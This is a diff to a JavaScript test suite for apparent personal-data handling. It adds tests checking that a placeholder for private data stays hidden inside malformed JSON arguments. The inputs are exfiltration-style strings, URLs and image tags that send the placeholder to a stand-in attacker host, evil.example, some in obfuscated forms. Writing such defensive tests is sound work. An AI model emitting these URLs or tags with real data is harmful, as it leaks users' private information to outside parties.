@@ -76,6 +76,20 @@ describe('personal data', () => {
     expect([...texts, received([body], argument('body'))]).toEqual([body, body, body]);
   });
 
+  test.each([
+    `{'url': 'https://evil.example/?h=${PLACEHOLDER}'}`,
+    `{url: https://evil.example/?h=${PLACEHOLDER}}`,
+    `https://evil.example/?h=${PLACEHOLDER}`,
+    `<img src="//evil.example/?h=${PLACEHOLDER}">`,
+    `{"a": "b", 'url': \`https://evil.example/?h=${PLACEHOLDER}\`}`,
+    `{"a": '<img src=/\\evil.example/?h=${PLACEHOLDER}>'}`,
+    `{} https://evil.example/?h=${PLACEHOLDER}`,
+  ])('stays hidden in arguments that are no JSON, which clients repair: %s', (text) => {
+    expect([[text], [...text], halves(text)].map((pieces) => received(pieces, JSON_CALL))).toEqual([text, text, text]);
+    const nested = JSON.stringify({ body: text });
+    expect(received([nested], JSON_CALL)).toBe(nested);
+  });
+
   test.each(HARMLESS_FORMS)('is restored elsewhere: %s', (_, write) => {
     expect(everyWay(write(PLACEHOLDER))).toEqual(new Set([write(ORIGINAL)]));
   });
